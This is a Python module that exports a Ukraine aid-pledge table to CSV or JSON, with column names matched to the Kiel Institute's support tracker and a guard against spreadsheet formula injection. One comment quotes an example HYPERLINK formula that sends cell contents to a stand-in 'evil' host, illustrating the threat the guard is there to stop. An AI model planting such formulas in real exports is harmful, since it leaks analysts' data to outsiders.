"""Export of the pledge table for analysts, as CSV or JSON.

Column names follow the Kiel Institute's Ukraine Support Tracker where they mean
the same thing (Countries, Announcement Date, Type of Aid Specific, Item,
Quantity, Reported Value, Reported Currency, Source link), so both tables can be
put side by side; columns the tracker does not have keep our own names.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence

# (our field, exported column)
COLUMNS: tuple[tuple[str, str], ...] = (
    ("id", "ID"),
    ("donor", "Countries"),
    ("reported_at", "Announcement Date"),
    ("category", "Type of Aid Specific"),
    ("item", "Item"),
    ("system", "System"),
    ("quantity", "Quantity"),
    ("value", "Reported Value"),
    ("currency", "Reported Currency"),
    ("status", "Status"),
    ("evidence", "Explanation"),
    ("story_title", "Source of Information"),
    ("source_links", "Source link"),
)


def _record(row: dict) -> dict:
    links = " ".join(s["url"] for s in row.get("sources") or [] if s.get("url"))
    values = dict(row, source_links=links, reported_at=str(row.get("reported_at") or "")[:10])
    return {column: values.get(field) for field, column in COLUMNS}


# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and
# carriage return, as the start of one), and feed text is written by strangers:
# `=HYPERLINK("http://evil/?"&A1, "source")` in a title would run in the analyst's
# spreadsheet. OWASP's CSV-injection guidance: prefix such cells with a single quote
# so they are shown as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """`value` unchanged unless it is text a spreadsheet would evaluate; numbers stay numbers.
    Leading spaces are looked through: some spreadsheets drop them before parsing."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip(" ").startswith(FORMULA_STARTS):
        value = "'" + value
    # The writer quotes cells holding "\n" (its line terminator) but not a bare "\r",
    # which readers take for the end of the row.
    return value.replace("\r\n", "\n").replace("\r", "\n")


def pledges_to_csv(rows: Sequence[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[c for _, c in COLUMNS], lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({column: spreadsheet_safe(value) for column, value in _record(row).items()})
    return out.getvalue()


def pledges_to_json(rows: Sequence[dict]) -> str:
    return json.dumps([_record(r) for r in rows], ensure_ascii=False, indent=2) + "\n"
